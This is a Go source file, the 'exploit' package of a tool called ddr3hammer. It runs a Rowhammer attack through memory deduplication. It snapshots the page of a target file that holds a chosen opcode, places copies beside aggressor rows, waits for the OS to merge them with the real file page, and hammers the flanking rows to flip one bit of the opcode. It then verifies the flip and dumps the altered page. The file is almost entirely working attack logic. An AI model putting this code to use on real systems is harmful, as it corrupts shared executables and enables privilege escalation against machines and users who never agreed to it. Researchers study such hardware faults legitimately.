// This file is part of ddr3hammer.
//
// ddr3hammer is free software: you can redistribute it and/or modify
// it under the terms of the GNU General Public License as published by
// the Free Software Foundation, either version 3 of the License, or
// (at your option) any later version.
//
// ddr3hammer is distributed in the hope that it will be useful,
// but WITHOUT ANY WARRANTY; without even the implied warranty of
// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
// GNU General Public License for more details.
//
// You should have received a copy of the GNU General Public License
// along with ddr3hammer.  If not, see <https://www.gnu.org/licenses/>.

package exploit

import (
	"context"
	"crypto/rand"
	"os"

	"github.com/jetsetilly/ddr3hammer/ddrerr"
	"github.com/jetsetilly/ddr3hammer/internal/config"
	"github.com/jetsetilly/ddr3hammer/internal/dram"
	"github.com/jetsetilly/ddr3hammer/internal/hugebuf"
	"github.com/jetsetilly/ddr3hammer/internal/mask"
	"github.com/jetsetilly/ddr3hammer/internal/scan"
)

// Hammerer is the row-activation dependency every state past
// StateTemplateSearch needs, shared structurally with scan.Hammerer and
// mask.Hammerer - any value satisfying one satisfies all three.
type Hammerer interface {
	Hammer(a, b *byte, activations uint64)
}

// Driver carries everything one exploitation attempt needs against a
// single mapped region: the buffer, the DRAM geometry, hammer tuning, the
// target file path, the dedup-wait strategy, and the row-activation
// dependency.
type Driver struct {
	Buf        *hugebuf.Buffer
	Geometry   dram.Config
	HammerCfg  config.HammerConfig
	TargetPath string
	Dedup      DedupWait
	Hammerer   Hammerer

	// scratch holds the snapshot taken in StatePageSnapshot until
	// StatePagePlacement copies it into the buffer and clears it.
	scratch [dram.PageSize]byte
}

// Result reports where an attempt stopped, which Template (if any) it was
// working from, and whether the flip was verified.
type Result struct {
	State     State
	Template  *scan.Template
	Succeeded bool
}

// Run drives the six states against region in sequence. Any failure before
// StateVerify returns immediately with ddrerr.TemplateNotFound (or ctx's
// error once ctx is cancelled) so internal/orchestrator can move on
// to the next region. Only StateVerify's outcome is returned in Result -
// every earlier abandonment leaves Result.Succeeded false.
func (d *Driver) Run(ctx context.Context) (Result, error) {
	if err := ctx.Err(); err != nil {
		return Result{State: StateTemplateSearch}, err
	}

	tmpl, err := scan.ScanAllBanks(d.Buf, d.Geometry, d.HammerCfg, d.Hammerer)
	if err != nil {
		return Result{State: StateTemplateSearch}, err
	}

	opcodeByte, err := d.snapshotPage(tmpl)
	if err != nil {
		return Result{State: StatePageSnapshot, Template: tmpl}, ddrerr.Errorf(ddrerr.TemplateNotFound)
	}

	aggMask, err := mask.Build(d.Buf, d.Geometry, *tmpl, opcodeByte, d.HammerCfg, d.Hammerer)
	if err != nil {
		return Result{State: StatePageSnapshot, Template: tmpl}, ddrerr.Errorf(ddrerr.TemplateNotFound)
	}

	vicRow := dram.RowAlign(d.Geometry, uint64(tmpl.Addr))
	agg1Row := dram.AdjacentRow(d.Geometry, vicRow, dram.PrevRow)
	agg2Row := dram.AdjacentRow(d.Geometry, vicRow, dram.NextRow)

	d.placePages(vicRow, agg1Row)

	if err := ctx.Err(); err != nil {
		return Result{State: StateAwaitDedup, Template: tmpl}, err
	}
	if err := d.Dedup.Wait(ctx); err != nil {
		return Result{State: StateAwaitDedup, Template: tmpl}, ddrerr.Errorf(ddrerr.TemplateNotFound)
	}

	d.primeAndHammer(agg1Row, agg2Row, aggMask)

	observed := *d.Buf.At(uint64(tmpl.Addr))
	want := opcodeByte ^ (1 << tmpl.Op.BitIndex)
	if observed != want {
		return Result{State: StateVerify, Template: tmpl, Succeeded: false}, ddrerr.Errorf(ddrerr.TemplateNotFound)
	}

	victimPage := pageAt(d.Buf, uint64(tmpl.Addr))
	if err := dumpVictimPage(dumpFileName, victimPage); err != nil {
		return Result{State: StateVerify, Template: tmpl, Succeeded: true}, err
	}

	return Result{State: StateVerify, Template: tmpl, Succeeded: true},
		ddrerr.Errorf(ddrerr.HammerSuccess, tmpl.Addr)
}

// snapshotPage opens the target read-only, reads the 4 KiB page containing
// tmpl's file offset into the driver's scratch buffer (placePages later
// copies it into the buffer), and returns the original opcode byte at the
// template's offset.
func (d *Driver) snapshotPage(tmpl *scan.Template) (byte, error) {
	f, err := os.Open(d.TargetPath)
	if err != nil {
		return 0, ddrerr.Errorf(ddrerr.IoFailure, err)
	}
	defer f.Close()

	pageOffset := uint64(tmpl.Op.FileOffset) &^ (dram.PageSize - 1)
	offsetInPage := uint64(tmpl.Op.FileOffset) & (dram.PageSize - 1)

	var scratch [dram.PageSize]byte
	if _, err := f.ReadAt(scratch[:], int64(pageOffset)); err != nil {
		return 0, ddrerr.Errorf(ddrerr.IoFailure, err)
	}

	d.scratch = scratch
	return scratch[offsetInPage], nil
}

// placePages copies the snapshot into the row-aligned victim page and a
// second identical copy one row earlier, then zeroes the scratch buffer.
func (d *Driver) placePages(vicRow, oneRowEarlier uint64) {
	copyPage(d.Buf, vicRow, d.scratch[:])
	copyPage(d.Buf, oneRowEarlier, d.scratch[:])
	for i := range d.scratch {
		d.scratch[i] = 0
	}
}

// primeAndHammer writes mask into both flanking rows, refreshes their
// entropy padding so the aggressors themselves resist deduplication, and
// hammers them once.
func (d *Driver) primeAndHammer(agg1Row, agg2Row uint64, m mask.AggressorMask) {
	writeRow(d.Buf, agg1Row, m[:])
	writeRow(d.Buf, agg2Row, m[:])
	for _, row := range []uint64{agg1Row, agg2Row} {
		for page := row; page < row+dram.RowSize; page += dram.PageSize {
			_, _ = rand.Read(d.Buf.Bytes()[page : page+hugebuf.EntropyPaddingSize])
		}
	}

	d.Hammerer.Hammer(d.Buf.At(agg1Row), d.Buf.At(agg2Row), d.HammerCfg.Activations)
}

func copyPage(buf *hugebuf.Buffer, offset uint64, page []byte) {
	copy(buf.Bytes()[offset:offset+uint64(len(page))], page)
}

func writeRow(buf *hugebuf.Buffer, offset uint64, row []byte) {
	copy(buf.Bytes()[offset:offset+uint64(len(row))], row)
}

func pageAt(buf *hugebuf.Buffer, addr uint64) []byte {
	start := addr &^ (dram.PageSize - 1)
	return buf.Bytes()[start : start+dram.PageSize]
}
